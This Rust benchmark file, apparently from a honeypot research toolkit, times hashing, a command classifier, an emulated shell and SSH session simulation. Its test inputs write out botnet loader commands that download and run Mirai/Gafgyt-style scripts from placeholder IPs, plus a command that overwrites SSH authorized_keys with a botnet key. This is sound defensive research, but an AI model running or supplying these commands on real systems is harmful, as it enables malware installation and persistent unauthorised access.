//! Microbenchmarks for the substrate crates: hash/codec primitives, the
//! regex engine on Table 1 workloads, token-DLD, the shell emulator and a
//! full SSH wire dialogue.

use honeylab_bench::Bench;
use honeylab_core::classify::Classifier;
use honeylab_core::{dld, tokens};
use std::hint::black_box;

fn bench_sha256(bench: &mut Bench) {
    for size in [64usize, 1024, 65_536] {
        let data = vec![0xabu8; size];
        bench.time(format!("sha256/digest_{size}B"), 12, || {
            hutil::Sha256::digest(&data)
        });
    }
}

fn bench_base64(bench: &mut Bench) {
    let script = botnet::mdrfckr_b64_scripts()[0].clone();
    let encoded = hutil::base64::encode(script.as_bytes());
    bench.time("base64_roundtrip_payload", 12, || {
        let e = hutil::base64::encode(script.as_bytes());
        hutil::base64::decode(&e).unwrap()
    });
    bench.time("base64_decode_payload", 12, || {
        hutil::base64::decode(&encoded).unwrap()
    });
}

fn bench_regex_engine(bench: &mut Bench) {
    let cl = Classifier::table1();
    let typical = "cd /tmp || cd /var/run; tftp; wget http://198.51.100.4/mirai-3.sh; chmod 777 mirai-3.sh; sh mirai-3.sh; /bin/busybox XQKPD";
    let curl_line = "curl https://203.0.113.7/ -s -X GET --max-redirs 5 --cookie 'k=v' --raw";
    let huge = vec![curl_line; 100].join("\n");
    bench.time("classify_typical_loader", 12, || cl.classify(typical));
    bench.time("classify_100_command_session", 12, || cl.classify(&huge));
    let conj = sregex::Regex::new(r"(?=.*curl)(?=.*echo)(?=.*ftp)(?=.*wget)").unwrap();
    bench.time("lookahead_conjunction_miss_15kb", 12, || {
        conj.is_match(&huge)
    });
    let lit = sregex::Regex::new("mdrfckr").unwrap();
    bench.time("literal_miss_15kb", 12, || lit.is_match(&huge));
}

fn bench_dld(bench: &mut Bench) {
    let a = tokens::signature(
        "cd /tmp; wget http://198.51.100.2/mirai-17.sh; chmod 777 mirai-17.sh; sh mirai-17.sh; rm -rf mirai-17.sh",
    );
    let b = tokens::signature(
        "mkdir /var/run/.x; cd /var/run/.x; curl -O http://203.0.113.4/gafgyt-9.sh; sh gafgyt-9.sh",
    );
    bench.time("token_dld_typical_pair", 12, || dld::normalized_dld(&a, &b));
    bench.time("tokenize_and_sign", 12, || {
        tokens::signature("cd /tmp; wget http://198.51.100.2/mirai-17.sh; sh mirai-17.sh")
    });
}

fn bench_shell(bench: &mut Bench) {
    let store = |uri: &str| (uri == "http://203.0.113.5/x.sh").then(|| b"#!/bin/sh\nX\n".to_vec());
    bench.time("shell_loader_session", 12, || {
        let mut sh = honeypot::Shell::new(&store);
        sh.exec_line("cd /tmp; wget http://203.0.113.5/x.sh; chmod 777 x.sh; sh x.sh; rm -rf x.sh");
        sh.file_events().len()
    });
    let line = format!(
        r#"cd ~; chattr -ia .ssh; cd ~ && rm -rf .ssh && mkdir .ssh && echo "{}">>.ssh/authorized_keys && chmod -R go= ~/.ssh"#,
        botnet::MDRFCKR_KEY_LINE
    );
    bench.time("shell_mdrfckr_session", 12, || {
        let mut sh = honeypot::Shell::new(&honeypot::shell::NullStore);
        sh.exec_line(&line);
        sh.file_events().len()
    });
}

fn bench_wire_dialogue(bench: &mut Bench) {
    use honeypot::wire::{run_wire_session, WireSessionMeta};
    let store = |uri: &str| (uri == "http://203.0.113.5/x.sh").then(|| b"#!/bin/sh\nX\n".to_vec());
    let meta = WireSessionMeta {
        honeypot_id: 1,
        honeypot_ip: netsim::Ipv4Addr(0x0a000001),
        client_ip: netsim::Ipv4Addr(0x0a000002),
        client_port: 40000,
        start: hutil::Date::new(2022, 5, 1).at(0, 0, 0),
    };
    bench.time("ssh_wire_full_dialogue", 12, || {
        let script = sshwire::ClientScript::new(
            "root",
            &["root", "admin"],
            &["uname -a", "cd /tmp; wget http://203.0.113.5/x.sh; sh x.sh"],
        );
        run_wire_session(&meta, script, honeypot::AuthPolicy::default(), &store)
            .unwrap()
            .1
    });
}

fn bench_session_sim(bench: &mut Bench) {
    use honeypot::{SessionInput, SessionSim};
    let store = honeypot::shell::NullStore;
    let sim = SessionSim::new(
        honeypot::AuthPolicy::default(),
        &store,
        netsim::latency::LatencyModel::new(1),
    );
    bench.time("bulk_session_scout", 12, || {
        sim.run(SessionInput {
            honeypot_id: 0,
            honeypot_ip: netsim::Ipv4Addr(1),
            client_ip: netsim::Ipv4Addr(2),
            client_port: 4000,
            protocol: honeypot::Protocol::Ssh,
            start: hutil::Date::new(2022, 5, 1).at(0, 0, 0),
            client_version: Some("SSH-2.0-Go".into()),
            logins: vec![("root".into(), "root".into())],
            commands: vec![],
            idle_out: false,
        })
    });
}

fn bench_outage_schedule(bench: &mut Bench) {
    use honeypot::{OutageConfig, OutageSchedule};
    let sched = OutageSchedule::seeded(
        &OutageConfig::degraded(),
        200,
        hutil::Date::new(2021, 12, 1),
        hutil::Date::new(2024, 8, 31),
        7,
    );
    // The per-session availability probe the driver issues on its hot path.
    let t = hutil::Date::new(2023, 6, 15).at(14, 30, 0);
    bench.time("outage_is_up", 12, || {
        let mut up = 0u32;
        for s in 0..200u16 {
            up += u32::from(sched.is_up(black_box(s), t));
        }
        up
    });
    bench.time("outage_down_sensor_secs_day", 12, || {
        sched.down_sensor_secs(hutil::Date::new(2023, 10, 8))
    });
}

fn bench_cowrie_lossy_import(bench: &mut Bench) {
    use honeypot::{from_cowrie_log_lossy, to_cowrie_log, SessionInput, SessionSim};
    let store = honeypot::shell::NullStore;
    let sim = SessionSim::new(
        honeypot::AuthPolicy::default(),
        &store,
        netsim::latency::LatencyModel::new(1),
    );
    let sessions: Vec<_> = (0..200u64)
        .map(|i| {
            sim.run(SessionInput {
                honeypot_id: (i % 20) as u16,
                honeypot_ip: netsim::Ipv4Addr(1),
                client_ip: netsim::Ipv4Addr(0x0a00_0000 + i as u32),
                client_port: 4000 + (i as u16),
                protocol: honeypot::Protocol::Ssh,
                start: hutil::Date::new(2022, 5, 1)
                    .at(0, 0, 0)
                    .plus_secs(i as i64 * 60),
                client_version: Some("SSH-2.0-Go".into()),
                logins: vec![("root".into(), "root".into())],
                commands: vec!["cd /tmp; wget http://203.0.113.5/x.sh; sh x.sh".into()],
                idle_out: false,
            })
        })
        .collect();
    let log = to_cowrie_log(&sessions);
    // Every 13th line corrupted: the import keeps scanning past failures.
    let corrupted: String = log
        .lines()
        .enumerate()
        .map(|(i, l)| {
            if i % 13 == 0 {
                format!("{{corrupt {l}\n")
            } else {
                format!("{l}\n")
            }
        })
        .collect();
    bench.time("cowrie_lossy_import_200_sessions", 12, || {
        from_cowrie_log_lossy(black_box(&corrupted)).sessions.len()
    });
}

fn main() {
    let mut bench = Bench::from_args("substrates");
    bench_sha256(&mut bench);
    bench_base64(&mut bench);
    bench_regex_engine(&mut bench);
    bench_dld(&mut bench);
    bench_shell(&mut bench);
    bench_wire_dialogue(&mut bench);
    bench_session_sim(&mut bench);
    bench_outage_schedule(&mut bench);
    bench_cowrie_lossy_import(&mut bench);
    bench.finish();
}
